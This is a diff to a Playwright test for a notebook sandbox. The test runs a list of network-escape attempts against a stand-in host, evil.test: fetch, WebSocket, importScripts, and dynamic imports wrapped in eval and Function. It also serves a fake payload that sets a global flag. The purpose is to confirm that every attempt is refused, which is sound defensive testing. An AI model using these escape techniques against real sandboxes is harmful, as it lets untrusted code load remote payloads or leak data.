@@ -224,12 +224,49 @@ test('strings from cells are text, never HTML', async ({ page }) => {
   expect(await page.evaluate(() => (window as { __owned?: number }).__owned)).toBeUndefined();
 });
 
-test('cells have no network', async ({ page }) => {
+test('the sandbox refuses every way out to the network, and the book’s data still loads', async ({
+  page,
+  context,
+}) => {
+  // If anything got through, this fake remote host would answer (the machine has no network):
+  // the test fails if it is ever asked.
+  const asked: string[] = [];
+  await context.route(/evil\.test/, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.owned = 1;' });
+  });
   await page.goto(PAGE);
-  const hello = cellOf(page, 'hello');
-  await replaceCode(page, hello, "await fetch('https://example.com/')");
-  await runAndWait(hello, 1);
-  await expect(output(hello)).toContainText('Network access is disabled');
+  const cell = cellOf(page, 'hello');
+  const attempts: [string, RegExp][] = [
+    ["await fetch('https://evil.test/data')", /sealed off from the network: https:\/\/evil\.test/],
+    ['new XMLHttpRequest()', /XMLHttpRequest is refused/],
+    ["new WebSocket('wss://evil.test/socket')", /WebSocket is refused/],
+    ["importScripts('https://evil.test/a.js')", /importScripts is refused/],
+    ["await import('https://evil.test/b.js')", /Cells can import only @descent\/engine/],
+    ['await eval("import(\'https://evil.test/c.js\')")', /sealed off from the network/],
+    [
+      'await new Function("return import(\'https://evil.test/d.js\')")()',
+      /sealed off from the network/,
+    ],
+  ];
+  let runs = 0;
+  for (const [code, refusal] of attempts) {
+    await replaceCode(page, cell, code);
+    await runAndWait(cell, ++runs);
+    await expect(output(cell), code).toContainText(refusal);
+  }
+  expect(asked).toEqual([]);
+  await replaceCode(page, cell, 'typeof globalThis.owned');
+  await runAndWait(cell, ++runs);
+  await expect(output(cell)).toHaveText('undefined');
+  // The book's own data files stay readable.
+  await replaceCode(
+    page,
+    cell,
+    'const d = await loadDigits({ trainCount: 20, testCount: 5 });\nd.trainX.shape',
+  );
+  await runAndWait(cell, ++runs);
+  await expect(output(cell)).toContainText('20');
 });
 
 test('top-level await and the book’s data files work', async ({ page }) => {
